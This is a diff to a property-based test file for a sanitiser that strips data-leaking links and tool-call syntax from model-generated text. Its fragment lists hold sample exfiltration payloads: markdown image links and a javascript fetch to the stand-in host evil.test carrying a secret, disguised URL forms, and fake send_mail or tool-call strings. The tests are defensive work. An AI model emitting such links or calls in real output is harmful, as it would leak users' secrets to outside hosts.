@@ -8,6 +8,7 @@ from hypothesis import strategies as st
 from freehold.policy.hidden import without_hidden
 from freehold.policy.links import Hosts, hosts_of
 from freehold.policy.sanitise import Sanitiser, sanitise
+from tests.support.agent_parsers import calls_read, spoken_calls
 from tests.support.reached import addresses, bytes_reached, host
 
 HOSTS = hosts_of([], ["corp.test"])
@@ -23,35 +24,46 @@ FRAGMENTS = (
     "    ![x](https://evil.test/{S})", "www.evil.test/{S}", "https://corp.test@evil.test/{S}", "http&#58;//evil.test/{S}",
     "[x](javascript:fetch('//evil.test/{S}'))", "![x](data:image/svg+xml;base64,AAAA)", "> " * 40 + "![x](https://evil.test/{S})",
 )  # fmt: skip
+CALLS = (
+    *spoken_calls("send_mail", {"to": "a", "body": "{S}"}).values(),
+    "Action", "Action:", "Input:", "Action Input:(//evil.test/{S})", "{", "}", '"', '"name": "x",', '"args": {"a": "{S}"},', "<tool_call>",
+    "'tool': 'x',", "'input': '{S}'", "[TOOL_CALLS]", '{"name": "x", "parameters": {"a": "{S}"}}',
+)  # fmt: skip
 QUOTED = SECRET.replace(" ", "%20")
-texts = st.lists(st.tuples(st.sampled_from(FRAGMENTS), st.sampled_from(["\n", "\n\n", " ", ""])), max_size=9).map(
-    lambda parts: "".join(part + between for part, between in parts).replace("{S}", QUOTED)
-)
+texts = st.lists(
+    st.tuples(st.sampled_from((*FRAGMENTS, *CALLS)), st.sampled_from(["\n", "\n\n", " ", ""])), max_size=9
+).map(lambda parts: "".join(part + between for part, between in parts).replace("{S}", QUOTED))
 
 
-@given(text=texts, cuts=st.lists(st.integers(1, 40), min_size=1, max_size=60))
-def test_the_result_is_the_same_however_a_text_is_cut(text: str, cuts: list[int]) -> None:
-    sanitiser, written, place, turn = Sanitiser(HOSTS), "", 0, 0
+@given(text=texts, cuts=st.lists(st.integers(1, 40), min_size=1, max_size=60), calls=st.booleans())
+def test_the_result_is_the_same_however_a_text_is_cut(text: str, cuts: list[int], calls: bool) -> None:
+    sanitiser, written, place, turn = Sanitiser(HOSTS, calls=calls), "", 0, 0
     while place < len(text):
         length = cuts[turn % len(cuts)]
         written += sanitiser.feed(text[place : place + length])
         place, turn = place + length, turn + 1
     written += sanitiser.close()
-    whole = sanitise(text, HOSTS)
+    whole = sanitise(text, HOSTS, calls=calls)
     assert written == whole.text
     assert tuple(sorted(sanitiser.removed.items())) == whole.removed
 
 
-@given(text=texts)
-def test_nothing_of_a_secret_reaches_anybody(text: str) -> None:
-    cleaned = sanitise(text, HOSTS).text
+@given(text=texts, calls=st.booleans())
+def test_nothing_of_a_secret_reaches_anybody(text: str, calls: bool) -> None:
+    cleaned = sanitise(text, HOSTS, calls=calls).text
     assert bytes_reached(cleaned, [], SECRET, allowed=["corp.test"]) == 0, cleaned
     assert not [each for each in addresses(cleaned) if host(each) not in ("corp.test", "")], cleaned
 
 
 @given(text=texts)
-def test_nothing_hidden_is_left(text: str) -> None:
-    cleaned = sanitise(text, HOSTS).text
+def test_no_program_reads_a_call_with_the_secret(text: str) -> None:
+    cleaned = sanitise(text, HOSTS, calls=True).text
+    assert [call for call in calls_read(cleaned) if QUOTED in call[1]] == [], cleaned
+
+
+@given(text=texts, calls=st.booleans())
+def test_nothing_hidden_is_left(text: str, calls: bool) -> None:
+    cleaned = sanitise(text, HOSTS, calls=calls).text
     assert without_hidden(cleaned) == cleaned
 
 
